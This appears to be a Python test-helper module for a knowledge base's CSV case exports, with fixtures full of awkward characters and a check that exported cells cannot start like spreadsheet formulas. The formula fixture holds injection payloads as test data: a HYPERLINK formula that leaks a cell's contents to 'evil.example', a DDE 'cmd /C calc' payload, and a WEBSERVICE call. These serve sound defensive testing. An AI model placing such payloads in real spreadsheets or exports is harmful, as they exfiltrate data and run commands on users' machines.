"""Helpers for the tests of the case downloads: a case full of awkward values, a case whose
values a spreadsheet would run as formulas, reading the CSV files back with Python's csv module,
and what each format must say about a case state.

The expectations are written out here, independently of kb.exchange.exporting, so that the tests
check the documented columns rather than repeat the code under test."""

import csv
import io
import re
from typing import Any

from kb.catalogue.cases import case_state, get_case, save_case
from kb.catalogue.schemas import CaseIn
from kb.catalogue.vocabulary import Vocabulary
from kb.csvcells import restore
from kb.runtime import Runtime

ODD_SLUG = "sonderzeichen-modell"
BOM = b"\xef\xbb\xbf"


def odd_case(vocab: Vocabulary) -> dict[str, Any]:
    """A case whose values have commas, quotes, line breaks (LF and CRLF), umlauts and the
    list separator " | " (only where the wide CSV does not join lists)."""
    instrument = vocab.codes("instruments")
    return {
        "slug": ODD_SLUG,
        "name": 'Modell „Süd“, "Nord" & Straße',
        "aliases": [
            {"name": 'Alias mit "Zitat", Komma', "note": "Zeile 1\nZeile 2, äöü"},
            {"name": "Zweiter Name; ÄÖÜß", "note": ""},
        ],
        "city": "Gießen, Lahn",
        "land": "hessen",
        "municipality": {
            "population": 90131,
            "population_year": 2022,
            "population_source": "https://example.org/einwohner",
            "size_class": "mittelstadt",
            "size_class_rationale": "Einwohnerzahl, „belegt“",
            "lat": 50.5841,
            "lon": 8.6784,
        },
        "governance": {"type": "cross-over", "rationale": 'Begründung,\r\nmit CRLF und "Quote"'},
        "scale": {"type": "district", "rationale": "Maßstab: Stadtteil\n\nzweiter Absatz"},
        "start_year": 2019,
        "end_year": 2023,
        "status": "completed",
        "carrier": {"name": 'Träger "Wir, hier" e.V.', "legal_form": "e.V."},
        "actors": [
            {
                "name": "Verein „Über, uns“",
                "kind": "initiative",
                "role": 'Rolle | mit "Quote"\nZeile',
                "source": "https://example.org/rolle?a=1,2",
            },
            {"name": "Stadt Gießen, Amt für Öffentlichkeit", "kind": "administration", "role": ""},
            {"name": "Stiftung Ä", "kind": vocab.codes("actor_kinds")[-1], "role": "fördert"},
        ],
        "instruments": [
            {"code": instrument[0], "note": 'Notiz, mit "Quote"'},
            {"code": instrument[1], "note": ""},
        ],
        "funding": [
            {
                "programme": "Programm „Ä“, 2020",
                "funder": "Bund, Land",
                "amount": "1.000,50 €",
                "period": "2020–2022",
                "note": "x\ny",
                "source": "https://example.org/a?b=1,2",
            }
        ],
        "awards": [
            {"name": 'Preis "Öko"', "year": 2021, "note": "", "source": ""},
            {"name": "Preis ohne Jahr", "year": None, "note": 'Nominierung, "eng"', "source": ""},
        ],
        "key_dates": [
            {"date": "2020-05", "event": 'Start, "offiziell"\nmit Umbruch', "source": ""},
            {"date": "2021", "event": "Ende ß", "source": "https://example.org/ende"},
        ],
        "summary": 'Kurz, mit "Zitat"\nund Umlauten: äöüß ÄÖÜ',
        "summary_en": 'Short, with "quote", comma\nand a second line',
        "description": "Lang.",
        "website": "https://example.org/wir",
        "sources": [
            {"url": "https://example.org/quelle,1", "supports": 'Gründung; "alles"\nZeile'},
            {"url": "https://example.org/zwei", "supports": ""},
        ],
    }


def save_odd_case(runtime: Runtime) -> dict[str, Any]:
    """Save the odd case; return its state as stored (the truth the downloads must match)."""
    vocab = runtime.vocabulary
    with runtime.uow() as uow:
        data = CaseIn.model_validate(odd_case(vocab), context={"vocabulary": vocab})
        save_case(uow, data, vocab, actor="test")
        uow.commit()
    with runtime.uow() as uow:
        return case_state(get_case(uow, ODD_SLUG))


def read_csv(data: bytes) -> list[dict[str, str]]:
    """A downloaded CSV file as rows: UTF-8 with a byte order mark, RFC 4180, and every cell
    that kb.csvcells guarded against spreadsheet formulas restored to its original text."""
    assert data.startswith(BOM)
    return read_csv_text(data.decode("utf-8-sig"))


def raw_cells(text: str) -> list[str]:
    """Every cell of a CSV document as written, header included."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def read_csv_text(text: str) -> list[dict[str, str]]:
    """A CSV document as rows, every cell as its original text (the codebook's rule undone)."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [{restore(k): restore(v) for k, v in row.items()} for row in rows]


# What OWASP says a spreadsheet may run: a cell starting with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_SLUG = "formel-modell"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Klick")'
FORMULA_CITY = "=1+1"
FORMULA_CARRIER = "+cmd|' /C calc'!A0"
FORMULA_SUM = "@SUM(A1)"
ALREADY_QUOTED = "'=schon mit Apostroph"  # must come back with its one quote


def formula_case(vocab: Vocabulary) -> dict[str, Any]:
    """A case whose texts start like spreadsheet formulas, in every kind of column: the name,
    the city, the carrier, an alias, the summary, an actor, a funding programme, a source note,
    and a text that already starts with a quote before `=`."""
    return {
        "slug": FORMULA_SLUG,
        "name": FORMULA_NAME,
        "aliases": [{"name": FORMULA_SUM, "note": ALREADY_QUOTED}],
        "city": FORMULA_CITY,
        "land": "hessen",
        "municipality": {
            "population": 1234,
            "size_class": "kleinstadt",
            "size_class_rationale": "-",
        },
        "governance": {"type": "bottom-up", "rationale": "+ von unten"},
        "scale": {"type": "project", "rationale": "@Haus"},
        "start_year": 2020,
        "status": "active",
        "carrier": {"name": FORMULA_CARRIER, "legal_form": "-"},
        "actors": [{"name": "=Initiative", "kind": "initiative", "role": "-2+3"}],
        "instruments": [{"code": vocab.codes("instruments")[0], "note": "=A1"}],
        "funding": [{"programme": "@Programm", "funder": "+Bund", "amount": "-500 €"}],
        "awards": [{"name": "=Preis", "year": 2021}],
        "key_dates": [{"date": "2020", "event": "=Start"}],
        "summary": f"{FORMULA_SUM} Formelfall",
        "website": "https://example.org/formel",
        "sources": [{"url": "https://example.org/formel", "supports": "=WEBSERVICE(A1)"}],
    }


def save_formula_case(runtime: Runtime, **changes: Any) -> dict[str, Any]:
    """Save the formula case (with `changes` to its top-level fields, e.g. another slug and
    name); return its state as stored."""
    vocab = runtime.vocabulary
    fields = {**formula_case(vocab), **changes}
    with runtime.uow() as uow:
        data = CaseIn.model_validate(fields, context={"vocabulary": vocab})
        save_case(uow, data, vocab, actor="test")
        uow.commit()
    with runtime.uow() as uow:
        return case_state(get_case(uow, fields["slug"]))


def assert_no_formula_cells(text: str) -> None:
    """No cell of the CSV document starts like a formula (the header included); a plain
    number such as -3 is a number to a spreadsheet, not a formula."""
    cells = raw_cells(text)
    assert cells
    formulas = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert [c for c in formulas if not re.fullmatch(r"-\d+(\.\d+)?", c)] == []


def _text(value: Any) -> str:
    return "" if value is None else str(value)


def expected_wide_row(c: dict[str, Any], vocab: Vocabulary) -> dict[str, str]:
    """The wide CSV row of a case state, as the codebook describes the columns."""

    def actors(side: str) -> str:
        return " | ".join(
            f"{a['name']} ({vocab.term('actor_kinds', a['kind']).label})"
            for a in c["actors"]
            if vocab.term("actor_kinds", a["kind"]).extra["side"] == side
        )

    size = c["municipality"]["size_class"]
    return {
        "slug": c["slug"],
        "name": c["name"],
        "aliases": " | ".join(a["name"] for a in c["aliases"]),
        "city": c["city"],
        "land": vocab.term("lands", c["land"]).label,
        "size_class": vocab.term("size_classes", size).label if size else "",
        "population": _text(c["municipality"]["population"]),
        "lat": _text(c["municipality"].get("lat")),
        "lon": _text(c["municipality"].get("lon")),
        "governance_type": c["governance"]["type"],
        "governance_rationale": c["governance"]["rationale"],
        "scale": c["scale"]["type"],
        "scale_rationale": c["scale"]["rationale"],
        "start_year": _text(c["start_year"]),
        "end_year": _text(c["end_year"]),
        "status": c["status"],
        "carrier_name": c["carrier"]["name"],
        "carrier_legal_form": c["carrier"]["legal_form"],
        "actors_municipal": actors("municipal"),
        "actors_civil_society": actors("civil-society"),
        "actors_other": actors("other"),
        "instruments": " | ".join(
            vocab.term("instruments", i["code"]).label for i in c["instruments"]
        ),
        "funding": " | ".join(f["programme"] for f in c["funding"]),
        "awards": " | ".join(f"{a['name']} {_text(a['year'])}".strip() for a in c["awards"]),
        "summary": c["summary"],
        "summary_en": c["summary_en"] or "",
        "website": c["website"],
        "sources": " | ".join(s["url"] for s in c["sources"]),
    }


def _year(cell: str) -> int | None:
    return int(cell) if cell else None


# The long CSV's documented columns per item type, rebuilt into the case state's list items.
REBUILD = {
    "actor": (
        "actors",
        lambda r: {
            "name": r["name"],
            "kind": r["kind_or_code"],
            "role": r["role_or_note"],
            "source": r["source"],
        },
    ),
    "instrument": ("instruments", lambda r: {"code": r["kind_or_code"], "note": r["role_or_note"]}),
    "funding": (
        "funding",
        lambda r: {
            "programme": r["name"],
            "funder": r["funder"],
            "amount": r["amount"],
            "period": r["period"],
            "note": r["role_or_note"],
            "source": r["source"],
        },
    ),
    "award": (
        "awards",
        lambda r: {
            "name": r["name"],
            "year": _year(r["year"]),
            "note": r["role_or_note"],
            "source": r["source"],
        },
    ),
    "key_date": (
        "key_dates",
        lambda r: {"date": r["date"], "event": r["name"], "source": r["source"]},
    ),
    "alias": ("aliases", lambda r: {"name": r["name"], "note": r["role_or_note"]}),
    "source": ("sources", lambda r: {"url": r["source"], "supports": r["role_or_note"]}),
}


def lists_from_long(rows: list[dict[str, str]]) -> dict[str, dict[str, list[dict[str, Any]]]]:
    """case slug -> the case's lists rebuilt from the long CSV (in `position` order)."""
    cases: dict[str, dict[str, list[tuple[int, dict[str, Any]]]]] = {}
    for row in rows:
        key, rebuild = REBUILD[row["item_type"]]
        lists = cases.setdefault(row["case_slug"], {k: [] for k, _ in REBUILD.values()})
        lists[key].append((int(row["position"]), rebuild(row)))
    result = {}
    for slug, lists in cases.items():
        for numbered in lists.values():
            positions = [p for p, _ in numbered]
            assert positions == list(range(1, len(numbered) + 1)), (slug, positions)
        result[slug] = {key: [item for _, item in numbered] for key, numbered in lists.items()}
    return result


def state_lists(c: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    return {key: c[key] for key, _ in REBUILD.values()}
